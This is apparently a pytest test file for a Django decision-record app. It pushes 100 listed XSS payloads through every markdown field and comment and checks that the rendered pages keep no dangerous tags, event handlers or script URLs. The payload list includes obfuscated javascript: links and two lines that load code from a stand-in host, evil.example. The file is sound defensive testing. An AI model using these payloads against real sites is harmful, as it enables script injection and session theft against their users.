"""100 known XSS payloads through every markdown field, every option field and a comment: nothing executable
reaches the rendered page."""
import re
from html.parser import HTMLParser

import pytest

from adr import services
from tests.conftest import client_for
from tests.factories import ProjectFactory

pytestmark = pytest.mark.django_db

TAGS = ["script", "img", "svg", "iframe", "body", "a", "div", "input", "details", "video", "audio", "object", "embed", "math", "style", "form", "marquee", "link", "meta", "base"]
PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</ScRiPt>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<body onload=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    "![x](x \"onerror=alert(1)\")",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<div onmouseover=\"alert(1)\">x</div>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<marquee onstart=alert(1)>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set onbegin=alert(1) attributename=x to=1>",
    "<x onclick=alert(1)>click",
    "<button formaction=javascript:alert(1)>x</button>",
    "<frameset onload=alert(1)>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
    "<a href=\"javas\ncript:alert(1)\">x</a>",
    "[x](<javascript:alert(1)>)",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(1)\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
    "<img srcset=\"x 1x\" onerror=alert(1)>",
    "<a href=\"#\" onclick=\"alert(1)\">x</a>",
    "**bold** <span onmouseenter=alert(1)>x</span>",
    "_x_ <b onmouseover=alert(1)>y</b>",
    "<p style=\"x:expression(alert(1))\">x</p>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\">",
    "<audio autoplay onplay=alert(1)><source src=x>",
    "<video poster=javascript:alert(1)//></video>",
    "<body background=javascript:alert(1)>",
    "<applet code=\"javascript:alert(1)\">",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "<dialog open onclose=alert(1)>",
    "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<template><script>alert(1)</script></template>",
    "<script type=\"module\">alert(1)</script>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"\\x01javascript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<img src=x onerror=\"alert`1`\">",
    "<img src=x oNeRrOr=alert(1)>",
    "<img src=x onerror\n=alert(1)>",
    "<svg><script xlink:href=data:,alert(1)></script></svg>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<form><input type=submit formaction=javascript:alert(1)></form>",
    "<object type=\"text/x-scriptlet\" data=\"//evil.example/x\"></object>",
    "<div onpointerover=alert(1)>x</div>",
    "<a href=\"javascript:void(0)\" onanimationstart=alert(1)>x</a>",
    "<h1 onauxclick=alert(1)>x</h1>",
]
assert len(PAYLOADS) == 100

FIELDS = ("context", "drivers", "outcome", "consequences", "confirmation", "more_information")
DANGEROUS_TAGS = {"script", "iframe", "object", "embed", "svg", "math", "style", "base", "meta", "link", "frameset", "frame", "applet", "body", "isindex"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "srcdoc", "xlink:href", "srcset", "content"}


class ElementCollector(HTMLParser):
    """The elements a browser would build from the page, with their decoded attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))


def assert_safe(html: str) -> None:
    main = html.split('<main id="main"', 1)[1].split("</main>", 1)[0]
    collector = ElementCollector()
    collector.feed("<main " + main)
    for tag, attrs in collector.elements:
        assert tag not in DANGEROUS_TAGS, f"<{tag}> survived"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} on <{tag}>"
            if name in URL_ATTRIBUTES and value:
                squeezed = re.sub(r"[\s\x00-\x1f]", "", value).lower()
                assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), f"{name}={value!r} on <{tag}>"


@pytest.mark.parametrize("start", range(0, 100, 20))
def test_payloads_in_every_markdown_field_and_comment_are_neutralised(start, team, member):
    project = ProjectFactory(team=team)
    client = client_for(member)
    for payload in PAYLOADS[start:start + 20]:
        adr = services.adr_create(
            actor=member, project=project, title=payload[:200], chosen_option=payload[:200], tags=[payload[:40]],
            decision_makers_external=[payload[:120]],
            options=[{"title": f"Option {payload}"[:200], "description": payload, "good": [payload], "neutral": [payload], "bad": [payload]}],
            **{field: payload for field in FIELDS},
        )
        services.comment_add(actor=member, adr=adr, body=payload)
        assert_safe(client.get(adr.get_absolute_url()).content.decode())
        preview = client.post(f"/projects/{project.slug}/adrs/preview/", {field: payload for field in FIELDS} | {"title": payload})
        assert_safe('<main id="main">' + preview.content.decode() + "</main>")
    assert_safe(client.get(f"/projects/{project.slug}/adrs/").content.decode())
    assert_safe(client.get("/decisions/").content.decode())


def test_the_checker_catches_raw_payloads():
    with pytest.raises(AssertionError):
        assert_safe('<main id="main"><img src=x onerror=alert(1)></main>')
    with pytest.raises(AssertionError):
        assert_safe('<main id="main"><a href="javascript:alert(1)">x</a></main>')
